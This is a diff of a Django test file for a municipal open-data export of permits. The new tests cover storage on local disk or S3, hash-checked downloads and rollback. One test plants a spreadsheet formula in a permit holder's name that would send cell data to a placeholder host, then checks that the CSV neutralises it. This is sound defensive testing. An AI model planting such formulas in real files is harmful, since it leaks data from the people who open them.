@@ -1,4 +1,5 @@
-"""The daily open-data files: permits in force per municipality, CSV and JSON, and their download."""
+"""The daily open-data files: permits in force per municipality, CSV and JSON, stored through the storage API
+(local disk or S3), and their download checked against the SHA-256 kept when they were written."""
 
 from __future__ import annotations
 
@@ -10,13 +11,21 @@ from typing import Any
 
 import pytest
 from django.core.management import CommandError, call_command
-from django.test import Client
+from django.test import Client, TestCase
 
 from apps.licensing import services
 from apps.licensing.models import Permit
 from apps.public.opendata import FIELDS
 
 pytestmark = pytest.mark.django_db
+
+
+def export(*args: str) -> str:
+    """Run the export and its after-commit writes (the test's transaction never commits by itself)."""
+    out = io.StringIO()
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        call_command("export_open_data", *args, stdout=out)
+    return out.getvalue()
 
 
 def test_the_export_lists_permits_in_force_with_the_published_fields(
@@ -29,7 +38,7 @@ def test_the_export_lists_permits_in_force_with_the_published_fields(
         until=today + dt.timedelta(days=5),
         reason="Decisão definitiva.",
     )
-    call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
+    export("--as-of", today.isoformat())
     rows = list(
         csv.DictReader(
             io.StringIO(client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode())
@@ -48,17 +57,17 @@ def test_revoked_and_expired_permits_leave_the_list(
 ) -> None:
     assert olimpia_permit.valid_until is not None
     day_after = olimpia_permit.valid_until + dt.timedelta(days=1)
-    call_command("export_open_data", "--as-of", day_after.isoformat(), stdout=io.StringIO())
+    export("--as-of", day_after.isoformat())
     assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0
     services.permit_revoke(permit=olimpia_permit, actor=None, as_of=today, reason="Cassação.")
-    call_command("export_open_data", stdout=io.StringIO())
+    export()
     assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0
 
 
 def test_the_page_lists_each_town_and_says_when_nothing_was_published(
     client: Client, olimpia_permit: Permit, votuporanga: Any, today: dt.date
 ) -> None:
-    call_command("export_open_data", "--municipio", "3533908", stdout=io.StringIO())
+    export("--municipio", "3533908")
     page = client.get("/dados-abertos/").content.decode()
     assert "/dados-abertos/3533908/alvaras-em-vigor.csv" in page
     assert "ainda não publicado" in page
@@ -80,10 +89,75 @@ def test_a_formula_in_a_holders_name_is_neutralized_in_the_csv(
 
     formula = '=HYPERLINK("http://exemplo.invalid/?x="&A1,"Clique")'
     Person.objects.filter(operators=olimpia_permit.operator).update(name=formula)
-    call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
+    export("--as-of", today.isoformat())
     text = client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode()
     assert list(csv.DictReader(io.StringIO(text)))[0]["holder_name"] == "'" + formula
     document = json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())
     assert (
         document["permits"][0]["holder_name"] == formula
     )  # JSON is data, not a spreadsheet: kept as written
+
+
+@pytest.fixture(params=["local", "s3"])
+def store(request: pytest.FixtureRequest) -> Any:
+    from django.core.files.storage import default_storage
+
+    return request.getfixturevalue("s3_storage") if request.param == "s3" else default_storage
+
+
+def downloaded(client: Client, url: str) -> bytes:
+    """The bytes a browser gets: streamed from the disk, or fetched from the signed S3 URL it is sent to."""
+    import urllib.request
+
+    response = client.get(url)
+    if response.status_code == 302:
+        assert response["Cache-Control"] == "no-store"
+        with urllib.request.urlopen(response["Location"], timeout=10) as signed:  # noqa: S310 (moto on localhost)
+            return bytes(signed.read())
+    assert response.status_code == 200, response.status_code
+    return b"".join(response.streaming_content)  # type: ignore[attr-defined]
+
+
+def test_the_files_go_through_the_store_and_are_checked_before_download(
+    client: Client, olimpia_permit: Permit, store: Any, today: dt.date
+) -> None:
+    import hashlib
+
+    from django.core.files.base import ContentFile
+
+    from apps.ops.models import PublishedFile
+
+    printed = export("--as-of", today.isoformat(), "--municipio", "3533908")
+    latest = PublishedFile.objects.get(key="alvaras-em-vigor.json")
+    assert latest.file.name.startswith("published/3533908/alvaras-em-vigor-") and latest.file.name in printed
+    with store.open(latest.file.name, "rb") as handle:
+        stored = handle.read()
+    assert hashlib.sha256(stored).hexdigest() == latest.sha256
+    body = downloaded(client, "/dados-abertos/3533908/alvaras-em-vigor.json")
+    assert body == stored and json.loads(body)["count"] == 1
+
+    export("--as-of", today.isoformat(), "--municipio", "3533908")  # a second version the same day
+    newest = PublishedFile.objects.filter(key="alvaras-em-vigor.json").latest("pk")
+    assert newest.file.name != latest.file.name and store.exists(latest.file.name)  # history kept
+
+    store.delete(newest.file.name)
+    store.save(newest.file.name, ContentFile(b'{"count": 0, "permits": []}'))  # replaced behind our back
+    refused = client.get("/dados-abertos/3533908/alvaras-em-vigor.json")
+    assert refused.status_code == 409 and "não confere" in refused.content.decode()
+
+
+def test_an_export_rolled_back_leaves_no_file(olimpia_permit: Permit, store: Any, today: dt.date) -> None:
+    from django.db import transaction
+
+    from apps.ops.models import PublishedFile
+    from apps.public.opendata import export_municipality
+
+    with TestCase.captureOnCommitCallbacks(execute=True), pytest.raises(RuntimeError), transaction.atomic():
+        export_municipality(olimpia_permit.municipality, today)
+        raise RuntimeError("rollback")
+    assert not PublishedFile.objects.exists()
+    try:
+        folders = store.listdir("")[0]
+    except FileNotFoundError:  # the local MEDIA_ROOT before the first file
+        folders = []
+    assert "published" not in folders
